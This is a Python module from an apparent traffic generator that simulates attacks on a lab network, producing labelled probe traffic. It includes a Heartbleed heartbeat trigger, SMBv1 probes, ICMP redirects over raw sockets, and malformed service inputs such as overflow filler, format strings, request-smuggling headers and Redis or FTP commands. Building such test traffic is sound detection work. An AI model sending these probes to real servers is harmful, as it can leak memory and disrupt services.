"""Probes of services for holes: TLS heartbeats, old SMB, malformed requests, ICMP redirects.

Owns: messages that are wrong on purpose and harm nobody. Never carries code. In: a context and its bounds. Out: a connection
or datagram each.
"""

import asyncio
import contextlib
import random
import socket
import struct

from ..catalog import hostile
from ..draws import log_uniform
from . import crew
from .beacon import icmp_message
from .channels import GONE, hang_up, stream
from .crew import Bounds, Pace, attempts

TLS_PORTS = {"nginx": ("tls_port", 443), "weakweb": ("tls_port", 8443), "mail": ("imaps", 993)}
PLAIN = {"nginx": 80, "weakweb": 8080, "ftp": 21, "sshd": 22, "mail": 25, "smb": 445, "postgres": 5432, "mysql": 3306, "redis": 6379,
         "mqtt": 1883, "modbus": 502, "opcua": 4840, "dnp3": 20000, "api": 8000, "rsyncd": 873, "sip": 5060}


def client_hello(rng, heartbeat=True) -> bytes:
    """A TLS 1.0 to 1.2 ClientHello that offers heartbeats."""
    ciphers = b"".join(struct.pack(">H", c) for c in rng.sample((0xC014, 0xC013, 0xC00A, 0xC009, 0x0039, 0x0033, 0x0035, 0x002F, 0x000A, 0xC02F, 0xC030, 0x009C), 9))
    extensions = struct.pack(">HHHHH", 10, 6, 4, 23, 24) + struct.pack(">HHBB", 11, 2, 1, 0) + struct.pack(">HHHHH", 13, 6, 4, 0x0401, 0x0403)
    if heartbeat:
        extensions += struct.pack(">HHB", 15, 1, 1)
    body = b"\x03\x03" + rng.randbytes(32) + b"\0" + struct.pack(">H", len(ciphers)) + ciphers + b"\1\0" + struct.pack(">H", len(extensions)) + extensions
    handshake = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"\x16" + struct.pack(">HH", rng.choice((0x0301, 0x0302, 0x0303)), len(handshake)) + handshake


@hostile("probe-heartbleed", label="web-attack", tool="asyncio", technique="T1190")
async def heartbleed(ctx, flows, seconds):
    """A handshake's beginning, then a heartbeat that claims more than it carries; repeated, over several servers."""
    rng, bounds = ctx.rng, Bounds(ctx, flows, seconds)
    targets = [(crew.address_of(ctx, h), int(h.offers(s).options.get(*TLS_PORTS[s]))) for s in TLS_PORTS for h in crew.victims(ctx, s) if h.offers(s)]
    if not targets:
        raise LookupError("nobody to probe offers TLS")

    async def attempt():
        with contextlib.suppress(*GONE):
            async with stream(*rng.choice(targets)) as (reader, writer):
                writer.write(client_hello(rng))
                await asyncio.wait_for(reader.read(16384), 5)
                for _ in range(rng.choice((1, 1, 3))):
                    writer.write(b"\x18\x03\x02" + struct.pack(">HBH", 3 + (pad := rng.choice((0, 0, 16))), 1, rng.choice((0x4000, 0xFFFF, 0x1000))) + rng.randbytes(pad))
                    await asyncio.wait_for(reader.read(65536), 3)
                if rng.random() < 0.3:
                    hang_up(writer)

    await attempts(ctx, bounds, Pace(rng, log_uniform(rng, 0.1, 8)), rng.choice((1, 1, 3)), attempt)


@hostile("probe-smb-old", label="lateral", tool="asyncio", technique="T1210")
async def smb_old(ctx, flows, seconds):
    """SMB 1 negotiation, session, tree and odd transactions with empty bytes, against live and dark addresses."""
    rng, bounds = ctx.rng, Bounds(ctx, flows, seconds)
    live = [(h.address, h.port("smb", 445)) for h in crew.victims(ctx, "smb", where="lan")]
    others = [(h.address, 445) for h in ctx.site.hosts if h.zone == "lan" and h is not ctx.host]
    dark = [(a, 445) for a in ctx.site.dark4(rng, rng.choice((1, 10, 60)))]
    targets, padding = live * rng.choice((1, 5)) + others + dark, rng.choice((40, 400, 4000))

    async def attempt():
        with contextlib.suppress(*GONE):
            async with stream(*rng.choice(targets), timeout_s=rng.choice((1, 3))) as (reader, writer):
                for command, size in ((0x72, 40), (0x73, 60), (0x75, 30), *[(0x32, padding)] * rng.randint(0, 4)):
                    writer.write(_smb1(rng, command, size))
                    await asyncio.wait_for(reader.read(16384), 3)

    await attempts(ctx, bounds, Pace(rng, log_uniform(rng, 0.2, 20)), rng.choice((1, 1, 4)), attempt)


def _smb1(rng, command, size):
    if command == 0x72:
        body = b"\0" + struct.pack("<H", 34) + b"\2LANMAN1.0\0\2LM1.2X002\0\2NT LM 0.12\0"
    else:
        body = b"\0" + struct.pack("<H", size) + bytes(size)
    header = b"\xffSMB" + bytes([command]) + bytes(4) + b"\x18\x01\x28" + bytes(12) + struct.pack("<HHHH", 0, rng.getrandbits(16), 0, rng.getrandbits(16))
    return struct.pack(">I", len(header) + len(body)) + header + body


def malformed(rng: random.Random, service: str) -> list[bytes]:
    """What a fuzzer or an old exploit's first stage would send to a service: too long, out of order, or garbage."""
    filler = rng.choice((b"A", b"\x90", b"%n", b"\0")) * rng.choice((60, 500, 3000, 20_000))
    match service:
        case "nginx" | "weakweb" | "api":
            return [rng.choice((b"GET / HTTP/1.1\r\nHost: x\r\nX: " + filler + b"\r\n\r\n", b"GET /" + filler + b" HTTP/1.0\r\n\r\n", b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
                                b"Content-Length: 4\r\n\r\n0\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + rng.randbytes(60), b"\0" * 40 + b"\r\n\r\n"))]
        case "ftp":
            return [b"USER " + filler[:3000] + b"\r\n", b"PASS " + rng.randbytes(20).hex().encode() + b"\r\n", b"SITE EXEC " + filler[:300] + b"\r\n"]
        case "mail":
            return [b"EHLO " + filler[:900] + b"\r\n", b"MAIL FROM:<" + filler[:600] + b">\r\n", b"VRFY root\r\n", b"EXPN all\r\n"]
        case "sshd":
            return [b"SSH-2.0-" + rng.randbytes(6).hex().encode() + b"\r\n", rng.randbytes(rng.choice((40, 600, 5000)))]
        case "redis":
            return [b"INFO\r\n", b"CONFIG GET dir\r\n", b"EVAL \"return 1\" 0\r\n", b"*1000000\r\n$-9\r\n"]
        case "modbus":
            return [struct.pack(">HHHBB", rng.getrandbits(16), 0, 2 + len(pad), 1, rng.choice((8, 43, 90, 126))) + pad for pad in (rng.randbytes(rng.randint(1, 200)) for _ in range(3))]
        case _:
            return [rng.randbytes(rng.choice((8, 64, 700, 9000))) for _ in range(rng.randint(1, 3))]


async def _exploits(ctx, flows, seconds, where):
    rng, bounds = ctx.rng, Bounds(ctx, flows, seconds)
    targets = [(h, s) for s in PLAIN for h in crew.victims(ctx, s, where=where) if h.offers(s)]
    if not targets:
        raise LookupError("nobody to attack")
    if rng.random() < 0.6:
        targets = [rng.choice(targets)]

    async def attempt():
        host, service = rng.choice(targets)
        with contextlib.suppress(*GONE):
            async with stream(crew.address_of(ctx, host), host.port(service, PLAIN[service])) as (reader, writer):
                if service in ("ftp", "mail", "sshd", "mysql"):
                    await asyncio.wait_for(reader.read(4096), 5)
                for message in malformed(rng, service):
                    writer.write(message)
                    await asyncio.wait_for(writer.drain(), 5)
                    with contextlib.suppress(TimeoutError):
                        await asyncio.wait_for(reader.read(65536), rng.choice((0.5, 2)))
                    await ctx.sleep(rng.choice((0, 0, rng.expovariate(1))))
                if rng.random() < 0.3:
                    hang_up(writer)

    await attempts(ctx, bounds, Pace(rng, log_uniform(rng, 0.05, 10)), rng.choice((1, 1, 2, 6)), attempt)


@hostile("exploit-services", label="lateral", tool="asyncio", technique="T1210")
async def exploit_services(ctx, flows, seconds):
    """From an infected host: malformed messages to one or many services of the LAN."""
    await _exploits(ctx, flows, seconds, "lan")


@hostile("exploit-public", label="web-attack", tool="asyncio", technique="T1190")
async def exploit_public(ctx, flows, seconds):
    """From outside: the same to the services that the company shows."""
    await _exploits(ctx, flows, seconds, None)


@hostile("icmp-redirect", label="lateral", tool="raw socket", technique="T1557")
async def icmp_redirect(ctx, flows, seconds):
    """ICMP redirects to LAN hosts, which ignore them; `flows` bounds the hosts, each gets some messages."""
    rng, bounds = ctx.rng, Bounds(ctx, flows, seconds)
    hosts = [h for h in ctx.site.hosts if h.zone == "lan" and h is not ctx.host]
    outside = [h.address for h in ctx.site.hosts if h.zone == "wan"] or ctx.site.dark_internet4(rng, 3)
    pause_s = log_uniform(rng, 0.1, 10)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        raw.bind((ctx.host.address, 0))
        for victim in rng.sample(hosts, min(len(hosts), flows)):
            for _ in range(rng.choice((1, 3, 10))):
                if bounds.left_s <= 0:
                    return
                about = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 84, rng.getrandbits(16), 0, 64, 17, 0, socket.inet_aton(victim.address), socket.inet_aton(rng.choice(outside)))
                about += struct.pack(">HHHH", rng.randint(1024, 65000), 53, 64, 0)
                with contextlib.suppress(OSError):
                    raw.sendto(icmp_message(5, 1, socket.inet_aton(ctx.host.address) + about), (victim.address, 0))
                await ctx.sleep(min(rng.uniform(0.5, 1.5) * pause_s, max(bounds.left_s, 0)))
